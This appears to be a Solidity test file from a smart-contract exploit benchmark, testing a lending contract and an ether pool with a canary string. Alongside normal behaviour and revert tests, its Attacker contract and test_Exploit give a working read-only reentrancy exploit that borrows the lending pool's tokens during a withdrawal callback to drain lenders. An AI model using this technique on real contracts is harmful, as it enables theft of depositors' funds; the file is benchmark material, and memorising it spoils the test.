// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./BramblingCredit.sol";

// assay-canary-129477d9-4117-442e-8697-8b7698306460

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function deal(address to, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IToken {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Comes back while it is paid, and insists on being told off.
contract Swimmer {
    EtherPool internal pool;
    bytes internal again;

    constructor(EtherPool pool_) payable {
        pool = pool_;
        pool_.join{value: msg.value}(0);
    }

    receive() external payable {
        (bool ok, bytes memory why) = address(pool).call(again);
        require(!ok && keccak256(why) == keccak256(abi.encodeWithSignature("Error(string)", "pool: at work")), "let through");
    }

    function leave(bytes calldata again_) external {
        again = again_;
        pool.leave(0.1 ether);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant WRAPPED = address(0xE7E7);
    address internal constant LENDER = address(0x1E4D);
    address internal constant BORROWER = address(0xB044);
    uint256 internal constant START = 1_689_900_000;

    Token internal staked;
    EtherPool internal pool;
    BramblingCredit internal credit;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        staked = new Token();
        pool = new EtherPool(WRAPPED, address(staked));
        credit = new BramblingCredit(staked, pool, new LpFeed());

        staked.mint(LENDER, 4_000 ether);
        vm.prank(LENDER);
        staked.approve(address(credit), type(uint256).max);
        vm.prank(LENDER);
        credit.lend(4_000 ether);

        vm.deal(BORROWER, 600 ether);
        staked.mint(BORROWER, 700 ether);
        vm.prank(BORROWER);
        staked.approve(address(pool), type(uint256).max);
        vm.prank(BORROWER);
        pool.join{value: 500 ether}(500 ether);

        thief = new Attacker(pool, credit, staked);
        vm.deal(address(thief), 20_000 ether);
        staked.mint(address(thief), 20_000 ether);
    }

    function test_Regular() public {
        vm.prank(BORROWER);
        require(pool.exchange(1, 100 ether) == 99.96 ether, "exchanged");
        require(BORROWER.balance == 199.96 ether, "ether");
        pool.collect();
        require(staked.balanceOf(address(this)) == 0.02 ether, "keeper");

        vm.prank(BORROWER);
        pool.trust(address(credit), true);
        vm.prank(BORROWER);
        credit.pledge(100 ether);
        vm.prank(BORROWER);
        (bool ok, ) = address(credit).call(abi.encodeCall(BramblingCredit.borrow, (80 ether)));
        require(!ok, "the fee counts");
        vm.prank(BORROWER);
        credit.borrow(70 ether);
        vm.prank(BORROWER);
        (ok, ) = address(credit).call(abi.encodeCall(BramblingCredit.unpledge, (50 ether)));
        require(!ok, "bound");

        vm.warp(START + 31 days);
        staked.mint(LENDER, 70.35 ether);
        vm.prank(LENDER);
        credit.takeOver(BORROWER);
        require(pool.balanceOf(LENDER) > 73.8 ether && pool.balanceOf(LENDER) < 73.87 ether, "shares");
        vm.prank(LENDER);
        pool.leave(10 ether);
        require(LENDER.balance > 3.9 ether, "left");
        vm.prank(BORROWER);
        credit.unpledge(26 ether);
        require(staked.balanceOf(address(credit)) == 4_000.35 ether, "fee");

        vm.prank(LENDER);
        credit.unlend(1 ether);

        vm.prank(BORROWER);
        credit.pledge(10 ether);
        vm.prank(BORROWER);
        credit.borrow(1 ether);
        vm.prank(BORROWER);
        staked.approve(address(credit), 0.5 ether);
        vm.prank(BORROWER);
        credit.repay(0.5 ether);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts.
    function refuses(address who) internal {
        vm.prank(who);
        vm.expectRevert();
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Shares are moved by their owner, or by who is trusted.
    function test_RefusesStrangers() public {
        refuses(LENDER, "pool: not trusted");
        pool.moveShares(BORROWER, LENDER, 1);
        vm.prank(BORROWER);
        pool.moveShares(BORROWER, LENDER, 1);
        require(pool.balanceOf(LENDER) == 1, "moved by the owner");
    }

    /// One at a time in the pool.
    function test_RefusesASecondVisit() public {
        vm.deal(address(this), 1 ether);
        Swimmer swimmer = new Swimmer{value: 1 ether}(pool);
        swimmer.leave(abi.encodeCall(pool.join, (0)));
        swimmer.leave(abi.encodeCall(pool.leave, (0)));
        swimmer.leave(abi.encodeCall(pool.exchange, (1, 0)));
    }

    /// Ether that is not what is said, tokens and ether that do not move.
    function test_RefusesPayments() public {
        refuses(BORROWER, "pool: ether");
        pool.exchange{value: 1 ether}(0, 2 ether);
        refuses(BORROWER, "pool: ether");
        pool.exchange{value: 1}(1, 1 ether);
        vm.prank(BORROWER);
        pool.moveShares(BORROWER, address(staked), 1 ether);
        refuses(address(staked), "pool: not sent");
        pool.leave(1 ether);
        staked.sleep(true);
        refuses(BORROWER, "pool: not paid");
        pool.join(1 ether);
        refuses(BORROWER, "pool: not paid");
        pool.exchange(1, 1 ether);
        refuses(LENDER, "credit: not paid");
        credit.lend(1);
        refuses(LENDER, "credit: lent out");
        credit.unlend(1);
    }

    /// Lines that are not overdue, or are none, and loans that do not move.
    function test_RefusesLines() public {
        vm.prank(BORROWER);
        pool.trust(address(credit), true);
        vm.prank(BORROWER);
        credit.pledge(100 ether);
        vm.expectRevert("credit: not overdue");
        credit.takeOver(BORROWER);
        vm.prank(BORROWER);
        credit.borrow(10 ether);
        vm.expectRevert("credit: not overdue");
        credit.takeOver(BORROWER);
        staked.sleep(true);
        refuses(BORROWER);
        credit.borrow(1);
        refuses(BORROWER, "credit: not paid");
        credit.repay(1);
        vm.warp(START + 31 days);
        vm.expectRevert();
        credit.takeOver(BORROWER);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = lendersCover();
        exploit();
        require(lendersCover() + 1_700 ether <= before, "nothing lost");
        require(address(thief).balance + staked.balanceOf(address(thief)) > 41_700 ether, "nothing gained");
    }

    /// What is there for the lenders: cash, and the pledged shares of all borrowers at their price.
    function lendersCover() public view returns (uint256) {
        return staked.balanceOf(address(credit)) + (pool.balanceOf(address(credit)) * pool.sharePrice()) / 1e18;
    }

    function target() public view returns (address) {
        return address(credit);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Borrows between the ether and the tokens of a leave.
contract Attacker {
    EtherPool internal pool;
    BramblingCredit internal credit;
    Token internal staked;
    bool internal leaving;

    constructor(EtherPool pool_, BramblingCredit credit_, Token staked_) {
        pool = pool_;
        credit = credit_;
        staked = staked_;
    }

    function run() external {
        staked.approve(address(pool), 20_000 ether);
        uint256 shares = pool.join{value: 20_000 ether}(20_000 ether);
        pool.trust(address(credit), true);
        credit.pledge(2_000 ether);
        leaving = true;
        pool.leave(shares - 2_000 ether);
        leaving = false;
    }

    receive() external payable {
        if (leaving) credit.borrow(staked.balanceOf(address(credit)));
    }
}
